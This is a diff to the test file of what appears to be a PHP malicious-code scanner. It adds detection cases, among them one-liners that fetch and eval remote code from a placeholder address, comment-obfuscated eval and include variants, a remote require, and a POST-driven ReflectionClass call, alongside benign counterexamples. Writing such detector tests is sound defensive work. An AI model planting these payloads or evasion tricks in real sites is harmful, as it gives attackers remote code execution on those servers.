@@ -184,6 +184,18 @@ MALICIOUS = [
     ("remote code", "<?php eval(file_get_contents('https://203.0.113.5/x.txt'));", CODE),
     ("remote dropper", "<?php copy('http://203.0.113.5/s.txt', 'cache.php');", WRITE),
     (
+        "remote code read with comments before its parenthesis",
+        "<?=/**/@null; @eval/***/('?>' . file_get_contents/****/('https://203.0.113.5/m.php'));",
+        CODE,
+    ),
+    (
+        "remote address kept in a variable, comments around the read",
+        "<?php $u = /* u */ 'https://203.0.113.5/x.txt'; eval('?>' . file_get_contents /**/ ($u));",
+        CODE,
+    ),
+    ("remote script included", "<?php include 'http://203.0.113.5/s.txt';", CODE),
+    ("remote script required with a comment", "<?php require_once/**/('https://203.0.113.5/s.php');", CODE),
+    (
         "constructor run through ReflectionClass",
         "<?php class T { function __construct($p, $v) { $p($v); } }"
         " $c = new ReflectionClass('T'); $c->newInstance($_POST['k'], $_POST['v']);",
@@ -551,6 +563,14 @@ def test_flow_is_found(name: str, code: str, expected: str) -> None:
 
 
 BENIGN = [
+    (
+        "a command-line tool including a remote bootstrap",
+        "<?php if (PHP_SAPI !== 'cli') { exit(1); } include 'https://203.0.113.5/bootstrap.php';",
+    ),
+    (
+        "remote feed read with comments and printed escaped",
+        "<?php $x = file_get_contents/**/('https://203.0.113.5/feed.xml'); echo htmlspecialchars($x);",
+    ),
     (
         "helper writing to the path it is handed, called with fixed and cleaned paths",
         "<?php function save_as($path, $text) { file_put_contents($path, $text); }"
